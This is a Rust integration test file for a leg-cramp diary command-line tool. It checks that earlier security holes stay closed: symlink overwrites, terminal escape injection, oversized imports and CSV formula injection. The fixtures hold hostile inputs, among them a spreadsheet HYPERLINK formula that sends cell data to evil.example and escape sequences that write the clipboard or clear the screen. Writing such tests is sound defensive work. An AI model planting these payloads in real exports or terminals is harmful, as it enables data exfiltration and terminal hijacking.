//! Issue 17: the attacks that got through, each closed and kept closed, through the binary.

use std::fs;

use crate::harness::{Env, assert_one_line_error, snapshot};

/// A diary with a few nights, as a patient has after a week.
fn diary() -> Env {
    let env = Env::new();
    env.ok(&["log", "--none"]);
    env.ok(&["log", "2 days ago", "-e", "left calf 2m 7 03:10"]);
    env
}

/// Writes SQL straight into the diary, as another program (or an attacker) could.
fn sql(env: &Env, statement: &str) {
    let conn = rusqlite::Connection::open(env.db()).unwrap();
    conn.execute_batch(statement).unwrap();
}

fn stderr_of(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

// Item 1: no output lands on the diary or its side files, by any path or link.
#[test]
fn no_output_lands_on_the_diary_or_its_side_files() {
    let env = diary();
    let db = env.db();
    let dir = db.parent().unwrap();
    std::os::unix::fs::symlink(&db, env.path("link.md")).unwrap();
    std::os::unix::fs::symlink(dir.join("diary.sqlite3-wal"), env.path("wal.md")).unwrap();
    std::os::unix::fs::symlink(dir.join("diary.sqlite3-journal"), env.path("journal.svg")).unwrap();
    fs::hard_link(&db, env.path("hard.md")).unwrap();
    let dotted = dir.join("..").join("data").join("diary.sqlite3");
    let before = snapshot(&db);
    let targets = [
        db.clone(),
        dotted,
        env.path("link.md"),
        env.path("wal.md"),
        env.path("hard.md"),
        dir.join("diary.sqlite3-shm"),
        dir.join("diary.sqlite3-journal"),
    ];
    for target in &targets {
        let t = target.to_str().unwrap();
        for args in [
            vec!["report", "-o", t, "--force"],
            vec!["report", "--format", "pdf", "-o", t, "--force"],
            vec!["chart", "weekly", "-o", t, "--force"],
            vec!["export", "--format", "json", "-o", t, "--force"],
            vec!["backup", t, "--force"],
        ] {
            let out = env.cmd(&args).output().unwrap();
            let stderr = stderr_of(&out);
            assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
            assert_one_line_error(&stderr);
            assert!(stderr.contains("diary"), "{args:?}: {stderr}");
            assert_eq!(snapshot(&db), before, "{args:?} changed the diary");
        }
    }
    // The journal symlink points at a file that does not exist: still refused, never created.
    assert!(!dir.join("diary.sqlite3-journal").exists());
    let list = env.json(&["list", "--all", "--json"]);
    assert_eq!(list["logged"], 2, "both nights are still there");
}

// Item 2: stored and typed control characters never reach the terminal.
#[test]
fn stored_escapes_are_shown_visibly_never_sent_to_the_terminal() {
    let env = diary();
    env.ok(&[
        "med",
        "add",
        "simvastatin",
        "--class",
        "statin",
        "--start",
        "2026-10-01",
    ]);
    env.ok(&["event", "add", "2026-11-01", "other", "--label", "scan"]);
    // As another program (or an older cramplog's import) could have stored them.
    sql(
        &env,
        "UPDATE nights SET note = 'clip' || char(27) || ']52;c;aGk=' || char(7) || ' clear' || char(27) || '[2J';
         UPDATE medications SET dose = char(27) || '[31m10 mg', name = 'simva' || char(155) || '2J';
         UPDATE events SET label = char(27) || ']0;owned' || char(7);",
    );
    for args in [
        vec!["show", "2 days ago"],
        vec!["list"],
        vec!["med", "list"],
        vec!["event", "list"],
    ] {
        let out = env.cmd(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr_of(&out));
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            !text
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{args:?} printed a raw control character: {text:?}"
        );
        assert!(
            text.contains("<U+001B>"),
            "{args:?} hides it instead: {text}"
        );
    }
}

#[test]
fn typed_escapes_are_refused_alike_by_the_command_line_and_import() {
    let env = diary();
    let before = snapshot(&env.db());
    for args in [
        vec!["log", "3 days ago", "--none", "--note", "hi\u{1b}[2J"],
        vec![
            "med",
            "add",
            "x\u{1b}[2J",
            "--class",
            "statin",
            "--start",
            "2026-10-01",
        ],
        vec![
            "med",
            "add",
            "y",
            "--class",
            "statin",
            "--start",
            "2026-10-01",
            "--dose",
            "\u{1b}]52;c;aGk=\u{7}",
        ],
        vec!["event", "add", "2026-11-01", "other", "--label", "\u{9b}2J"],
        vec!["log", "--bed", "\u{1b}]52;c;aGk=\u{7}"],
        vec!["lgo\u{1b}[2J"],
    ] {
        let out = env.cmd(&args).output().unwrap();
        let stderr = stderr_of(&out);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert_one_line_error(&stderr);
        assert!(
            !stderr.chars().any(|c| c.is_control() && c != '\n'),
            "{args:?} echoed a raw control character: {stderr:?}"
        );
    }
    assert_eq!(snapshot(&env.db()), before);
    // Import refuses the same text, naming the record and field.
    let file = env.path("hostile.json");
    fs::write(
        &file,
        serde_json::to_vec(&serde_json::json!({
            "format": "cramplog", "version": 1, "profile": {},
            "medications": [{"name": "m", "class": "statin", "start": "2026-01-02", "dose": "\u{1b}[2J"}],
            "events": [{"date": "2026-01-03", "kind": "other", "label": "\u{1b}]0;x\u{7}"}],
            "nights": [{"night": "2026-01-04", "episodes": [], "note": "a\u{1b}[2Jb"}]
        }))
        .unwrap(),
    )
    .unwrap();
    let stderr = env.fails(&["import", file.to_str().unwrap()], 2, "nights[0].note");
    for field in ["medications[0].dose", "events[0].label", "U+001B"] {
        assert!(stderr.contains(field), "{field}: {stderr}");
    }
    assert!(!stderr.contains('\u{1b}'), "{stderr:?}");
    assert_eq!(snapshot(&env.db()), before);
    // What the command line accepts (newlines and tabs in a note), import accepts too.
    env.ok(&[
        "log",
        "4 days ago",
        "--none",
        "--note",
        "two\nlines\tand a tab",
    ]);
    let export = env.ok(&["export", "--format", "json"]);
    let other = Env::new();
    let copy = other.path("x.json");
    fs::write(&copy, &export).unwrap();
    other.ok(&["import", copy.to_str().unwrap()]);
    assert_eq!(other.ok(&["export", "--format", "json"]), export);
}

// Item 3: an argument that is not UTF-8.
#[test]
fn an_argument_that_is_not_utf8_is_a_one_line_error() {
    use std::os::unix::ffi::OsStrExt;
    let env = diary();
    let bad = std::ffi::OsStr::from_bytes(b"\xff\xfe");
    for args in [
        vec![bad],
        vec!["log".as_ref(), "--note".as_ref(), bad],
        vec!["show".as_ref(), bad],
    ] {
        let out = env.cmd(&[]).args(&args).output().unwrap();
        let stderr = stderr_of(&out);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert_one_line_error(&stderr);
    }
}

// Item 8: bounded memory whatever the input.
#[test]
fn import_reads_at_most_its_size_limit() {
    let env = diary();
    let before = snapshot(&env.db());
    let stderr = env.fails(
        &["import", "/dev/zero"],
        2,
        "/dev/zero is larger than 64 MiB",
    );
    assert!(stderr.contains("cramplog export"), "{stderr}");
    // A sparse file bigger than the limit is refused without being read.
    let big = env.path("big.json");
    fs::File::create(&big)
        .unwrap()
        .set_len(65 * 1024 * 1024)
        .unwrap();
    env.fails(&["import", big.to_str().unwrap()], 2, "larger than 64 MiB");
    // And the halves of a CSV pair.
    let dir = env.path("csv");
    fs::create_dir(&dir).unwrap();
    fs::write(dir.join("nights.csv"), "night\n").unwrap();
    fs::File::create(dir.join("episodes.csv"))
        .unwrap()
        .set_len(65 * 1024 * 1024)
        .unwrap();
    env.fails(
        &["import", dir.to_str().unwrap()],
        2,
        "episodes.csv is larger",
    );
    assert_eq!(snapshot(&env.db()), before);
}

// Item 10: spreadsheet formula injection, with a lossless round trip.
#[test]
fn csv_cells_never_start_a_formula_and_round_trip_exactly() {
    let env = Env::new();
    let notes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "'=already quoted",
        "''@twice",
        "'plain quote",
    ];
    for (i, note) in notes.iter().enumerate() {
        env.ok(&[
            "log",
            &format!("{} days ago", i + 1),
            "--none",
            "--no-symptoms",
            &format!("--note={note}"),
        ]);
    }
    env.ok(&["log", "20 days ago", "-e", "left calf 1m 5"]);
    let dir = env.path("csv");
    env.ok(&["export", "--format", "csv", "-o", dir.to_str().unwrap()]);
    for file in ["nights.csv", "episodes.csv"] {
        let bytes = fs::read(dir.join(file)).unwrap();
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        for rec in rdr.records() {
            for cell in rec.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file}: a spreadsheet would run {cell:?}"
                );
            }
        }
    }
    let other = Env::new();
    other.ok(&["import", dir.to_str().unwrap()]);
    assert_eq!(
        other.ok(&["export", "--format", "json"]),
        env.ok(&["export", "--format", "json"]),
        "the CSV round trip is lossless"
    );
}

// Item 11: the smaller holes.
#[test]
fn a_pinned_today_the_diary_cannot_hold_is_a_usage_error() {
    let env = Env::new();
    for today in ["0000-01-01", "0001-01-01", "9999-12-31"] {
        let out = env
            .cmd(&["log", "--none"])
            .env("CRAMPLOG_TODAY", today)
            .output()
            .unwrap();
        let stderr = stderr_of(&out);
        assert_eq!(out.status.code(), Some(2), "{today}: {stderr}");
        assert_one_line_error(&stderr);
        assert!(stderr.contains("CRAMPLOG_TODAY"), "{stderr}");
    }
    assert!(!env.db().exists());
}

#[test]
fn a_relative_xdg_data_home_is_ignored() {
    let env = Env::new();
    let work = env.path("work");
    fs::create_dir(&work).unwrap();
    let out = env
        .cmd(&["log", "--none"])
        .env_remove("CRAMPLOG_DB")
        .env("XDG_DATA_HOME", "relative/data")
        .current_dir(&work)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(
        !work.join("relative").exists(),
        "the diary followed the working folder"
    );
    assert!(
        env.path(".local/share/cramplog/diary.sqlite3").exists(),
        "the diary is in the home folder's data folder"
    );
}

#[test]
fn a_future_dated_night_survives_the_lossless_round_trip() {
    let env = Env::new();
    // The clock was ahead when this night was logged.
    env.cmd(&["log", "2026-12-03", "--none"])
        .env("CRAMPLOG_TODAY", "2026-12-04")
        .assert()
        .success();
    let export = env.ok(&["export", "--format", "json"]);
    let file = env.path("e.json");
    fs::write(&file, &export).unwrap();
    let other = Env::new();
    let f = file.to_str().unwrap();
    other.fails(&["import", f], 2, "--allow-future");
    other.ok(&["import", f, "--allow-future"]);
    assert_eq!(other.ok(&["export", "--format", "json"]), export);
}

/// A process id that is certainly not running any more.
fn dead_pid() -> u32 {
    let mut child = std::process::Command::new("true").spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

#[test]
fn temporary_files_left_by_a_killed_write_are_cleaned_up() {
    let env = diary();
    let pid = dead_pid();
    let stale = env.path(&format!(".report.md.{pid}-0.tmp"));
    fs::write(&stale, "half a report").unwrap();
    let live = env.path(&format!(".report.md.{}-0.tmp", std::process::id()));
    fs::write(&live, "another process is writing this").unwrap();
    env.ok(&["report", "-o", env.path("report.md").to_str().unwrap()]);
    assert!(
        !stale.exists(),
        "a dead process's temporary file is left behind"
    );
    assert!(live.exists(), "a live process's temporary file was removed");
}

#[test]
fn backup_while_another_process_writes_never_reports_a_false_mismatch() {
    let env = std::sync::Arc::new(diary());
    let writer = {
        let env = env.clone();
        std::thread::spawn(move || {
            for i in 0..60 {
                env.ok(&[
                    "log",
                    &format!("{} days ago", 10 + i),
                    "-e",
                    "right foot 30s 4",
                ]);
            }
        })
    };
    let mut failures = Vec::new();
    for i in 0..25 {
        let file = env.path(&format!("b{i}.sqlite3"));
        let out = env
            .cmd(&["backup", file.to_str().unwrap()])
            .output()
            .unwrap();
        if !out.status.success() {
            failures.push(stderr_of(&out));
        }
    }
    writer.join().unwrap();
    assert!(failures.is_empty(), "{failures:?}");
}
